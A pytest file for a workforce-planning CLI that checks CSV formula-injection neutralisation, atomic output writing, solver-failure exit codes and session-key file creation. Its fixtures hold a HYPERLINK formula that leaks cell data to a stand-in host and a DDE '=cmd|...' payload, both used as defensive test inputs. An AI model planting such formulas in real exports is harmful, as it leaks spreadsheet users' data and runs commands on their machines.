"""Issue 16: one writer for every file a command writes - neutralized text, atomic output
folders - and exit 3 when the solver returns no plan."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import planner.writers as writers
from planner.cli import EXIT_NO_PLAN, main
from planner.writers import csv_bytes
from tests.planner.test_cli_schedule import RULES, STAFFING

EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")'


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


def assert_no_formula(path: Path) -> None:
    bad = [c for c in cells(path) if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _number(c))]
    assert not bad, (path, bad[:3])


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


@pytest.fixture
def week(tmp_path):
    """A week of hourly requirements (as tests/planner/test_cli_schedule.py) and agents whose ids
    start with formula characters."""
    times = pd.date_range("2024-01-01", periods=7 * 24, freq="60min")
    hour, weekday = np.asarray(times.hour), np.asarray(times.day_of_week) < 5
    voice = np.where((hour >= 8) & (hour < 18) & weekday, 3.0, 0.0)
    email = np.where((hour >= 9) & (hour < 16) & weekday, 60.0, 0.0)
    iso = times.strftime("%Y-%m-%dT%H:%M:%S")
    frame = pd.concat([
        pd.DataFrame({"interval_start": iso, "queue": "main", "channel": "voice", "volume": voice * 12.0,
                      "aht_s": 240.0, "required_agents": voice}),
        pd.DataFrame({"interval_start": iso, "queue": "main", "channel": "email", "volume": email / 5,
                      "aht_s": 300.0, "required_agents": email / 60, "workload_minutes": email,
                      "due_minutes": 480.0}),
    ])
    (tmp_path / "req.csv").write_text(frame.to_csv(index=False))
    (tmp_path / "rules.toml").write_text(RULES)
    (tmp_path / "staffing.toml").write_text(STAFFING)
    ids = [EVIL, "+SUM(1)", "@cmd", "-2+3"] + [f"A{i}" for i in range(6)]
    agents = pd.DataFrame({"agent_id": ids, "contract": "full_time", "channels": "voice|email"})
    agents.to_csv(tmp_path / "agents.csv", index=False)
    return tmp_path


def schedule(week: Path, out: Path) -> int:
    return main(["schedule", str(week / "req.csv"), "--rules", str(week / "rules.toml"),
                 "--agents", str(week / "agents.csv"), "--out", str(out)])


def test_schedule_neutralizes_agent_ids_in_every_file(week):
    out = week / "o"
    assert schedule(week, out) == 0
    roster = pd.read_csv(out / "roster.csv", dtype=str)
    assert "'" + EVIL in set(roster["agent_id"]), roster["agent_id"].unique()
    for name in ("roster.csv", "activities.csv", "coverage.csv"):
        assert_no_formula(out / name)
    assert sorted(p.name for p in week.iterdir() if p.name.startswith(".")) == []  # no staging left


def test_a_failure_while_writing_leaves_no_partial_output_folder(week, monkeypatch, capsys):
    def broken(payload, path, **_):
        Path(path).write_text("{half")
        raise OSError(28, "No space left on device", str(path))

    monkeypatch.setattr(writers, "write_json", broken)
    out = week / "o"
    assert schedule(week, out) == 2
    assert "No space left on device" in capsys.readouterr().err
    assert not out.exists() and [p.name for p in week.iterdir() if p.name.startswith(".o")] == []
    # over an earlier run: the earlier folder stays exactly as it was
    monkeypatch.undo()
    assert schedule(week, out) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    monkeypatch.setattr(writers, "write_json", broken)
    assert schedule(week, out) == 2
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_no_plan_from_the_solver_is_exit_3_with_one_line(week, monkeypatch, capsys):
    from scheduling import shifts

    def no_plan(*_args, **_kwargs):
        raise shifts.SolveError("tried the LP relaxation, LP rounding (dive), branch and bound: no integer plan "
                                "(solver status Not Solved) after 60.0 s of the 60 s time limit")

    monkeypatch.setattr("planner.week_schedule.plan_shifts", no_plan)
    assert schedule(week, week / "o") == EXIT_NO_PLAN == 3
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err
    assert err.startswith("planner schedule: no usable plan from the solver: tried the LP relaxation")
    assert "60 s time limit" in err and not (week / "o").exists()


def test_forecast_staff_and_erlang_neutralize_text(tmp_path, store_url, capsys):
    ts = pd.date_range("2024-01-01", periods=35 * 24, freq="60min")
    rng = np.random.default_rng(0)
    open_ = (ts.hour >= 8) & (ts.hour < 18) & (ts.day_of_week < 5)
    history = pd.DataFrame({"interval_start": ts.strftime("%Y-%m-%dT%H:%M"), "queue": "=cmd|'/c calc'!A0",
                            "channel": "voice", "offered": rng.poisson(np.where(open_, 20.0, 0.0)),
                            "aht_s": 240.0})
    history.to_csv(tmp_path / "h.csv", index=False)
    fc = tmp_path / "fc.csv"
    assert main(["forecast", str(tmp_path / "h.csv"), "--start", "2024-01-29", "--days", "7",
                 "--interval-minutes", "60", "--method", "week_mean_4", "--out", str(fc)]) == 0
    assert set(pd.read_csv(fc)["queue"]) == {"'=cmd|'/c calc'!A0"}
    assert_no_formula(fc)
    (tmp_path / "staffing.toml").write_text(STAFFING)
    req = tmp_path / "req.csv"
    assert main(["staff", str(fc), "--config", str(tmp_path / "staffing.toml"), "--out", str(req)]) == 0
    assert_no_formula(req)
    cases = tmp_path / "cases.csv"
    cases.write_text("case,calls,interval_s,aht_s,answer_s,target_sl\n@SUM(A1),100,1800,180,20,0.8\n")
    results = tmp_path / "results.csv"
    assert main(["erlang", "--batch", str(cases), "--out", str(results)]) == 0
    assert pd.read_csv(results, dtype=str)["case"].tolist() == ["'@SUM(A1)"]
    assert_no_formula(results)


def test_accuracy_detail_is_neutralized(tmp_path, store_url):
    ts = pd.date_range("2024-01-01", periods=35 * 24, freq="60min")
    open_ = (ts.hour >= 8) & (ts.hour < 18) & (ts.day_of_week < 5)
    history = pd.DataFrame({"interval_start": ts.strftime("%Y-%m-%dT%H:%M"), "queue": "+q", "channel": "voice",
                            "offered": np.where(open_, 10, 0)})
    history.to_csv(tmp_path / "h.csv", index=False)
    assert main(["forecast", str(tmp_path / "h.csv"), "--start", "2024-01-22", "--days", "7",
                 "--interval-minutes", "60", "--method", "week_mean_4", "--out", str(tmp_path / "fc.csv")]) == 0
    acc = tmp_path / "acc.csv"
    assert main(["accuracy", "--snapshot", "1", "--actuals", str(tmp_path / "h.csv"), "--out", str(acc)]) == 0
    assert set(pd.read_csv(acc, dtype=str)["queue"]) == {"'+q"}
    assert_no_formula(acc)


def test_app_csv_download_is_neutralized():
    data = csv_bytes(pd.DataFrame({"agent_id": [EVIL, "A1"], "hours": [-1.5, 8.0]}))
    rows = list(csv.reader(data.decode().splitlines()))
    assert rows[1] == ["'" + EVIL, "-1.5"] and rows[2] == ["A1", "8.0"]


def test_write_json_is_atomic_and_plain(tmp_path):
    path = tmp_path / "s.json"
    writers.write_json({"n": np.int64(2), "x": float("nan"), "t": pd.Timestamp("2025-01-06")}, path)
    assert json.loads(path.read_text()) == {"n": 2, "x": None, "t": "2025-01-06T00:00:00"}


def test_output_folder_may_not_be_the_working_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "keep.txt").write_text("mine")
    with pytest.raises(ValueError, match="current folder"):
        writers.write_outputs(".", {"a.csv": lambda p: p.write_text("a")})
    assert (tmp_path / "keep.txt").read_text() == "mine"


def _session_key(folder: str) -> bytes:
    from planner.ui.auth import secret_key

    return secret_key(Path(folder))


def test_write_once_creates_the_file_whole_exactly_once(tmp_path):
    path = tmp_path / "keys" / "secret"
    assert writers.write_once("first", path, mode=0o600) is True
    assert writers.write_once("second", path, mode=0o600) is False
    assert path.read_text() == "first"
    assert path.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in path.parent.iterdir()] == ["secret"]  # no temporary file left behind


def test_worker_processes_racing_for_the_session_key_all_read_the_same_whole_key(tmp_path, monkeypatch):
    # the app's worker processes start together; each must sign with the one key, never an empty
    # one read between another worker's creating and filling the file
    import concurrent.futures
    import multiprocessing

    monkeypatch.delenv("PLANNER_SECRET_KEY", raising=False)
    with concurrent.futures.ProcessPoolExecutor(4, mp_context=multiprocessing.get_context("spawn")) as pool:
        keys = list(pool.map(_session_key, [str(tmp_path)] * 16))
    assert len(set(keys)) == 1
    assert len(keys[0]) == 64
    assert (tmp_path / "secret_key").stat().st_mode & 0o777 == 0o600
